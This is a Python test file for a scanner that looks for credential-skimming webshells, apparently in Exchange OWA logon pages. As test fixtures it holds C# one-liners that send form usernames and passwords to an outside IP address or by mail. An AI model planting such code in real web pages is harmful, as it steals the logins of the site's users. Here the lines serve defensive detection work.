"""Passwords that a page sends away on the server: for sure, or only where people sign in."""

from __future__ import annotations

import pytest

from exward.model.finding import Confidence
from exward.model.severity import Severity
from exward.webshells import page
from exward.webshells.skimming import page as logon_page

LOGON = "C/Exchange/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx"
ELSEWHERE = "C/inetpub/wwwroot/shop/login.aspx"
HEAD = '<%@ Page Language="C#" %><% '
BOTH = 'Request.Form["username"] + ":" + Request.Form["password"]'


def weighed(code: str, path: str = ELSEWHERE) -> page.Weighed:
    return page.weigh(path, f"{HEAD}{code} %>".encode(), "")


@pytest.mark.parametrize(
    "code",
    [
        f'new WebClient().UploadString("http://198.51.100.9/c", {BOTH});',
        f'var c = new System.Net.WebClient(); c.DownloadString("http://198.51.100.9/?" + {BOTH});',
        f'var r = WebRequest.Create("http://198.51.100.9/?" + {BOTH}); r.GetResponse();',
    ],
)
def test_to_an_address_in_the_code(code: str) -> None:
    found = weighed(code).finding
    assert found is not None
    assert found.rule == "webshell-steal-passwords"
    assert found.why == "the page sends the passwords of people to another server"


@pytest.mark.parametrize(
    ("code", "where"),
    [
        (f'new WebClient().UploadString("https://sso.example/check", {BOTH});', "another server"),
        (f'new WebClient().UploadString("http://10.0.0.9/check", {BOTH});', "another server"),
        (f'new SmtpClient("mx").Send("a@b", "c@d", "s", {BOTH});', "by mail"),
    ],
)
def test_it_proves_nothing_but_where_people_sign_in(code: str, where: str) -> None:
    hint = weighed(code).hint
    assert hint is not None
    assert where in hint.why
    assert logon_page.raised(ELSEWHERE, hint) is None
    raised = logon_page.raised(LOGON, hint)
    assert raised is not None
    assert (raised.severity, raised.confidence) == (Severity.HIGH, Confidence.MEDIUM)


@pytest.mark.parametrize(
    "code",
    [
        'new WebClient().DownloadString("http://198.51.100.9/?q=" + Request["city"]);',
        'new WebClient().UploadString("http://198.51.100.9/", Settings.Password);',
        'Membership.ValidateUser(Request["username"], Request["password"]);',
    ],
)
def test_other_values_and_other_deeds(code: str) -> None:
    one = weighed(code)
    told = [found.why for found in (one.finding, one.hint) if found is not None]
    assert not any("passwords of people" in why for why in told)
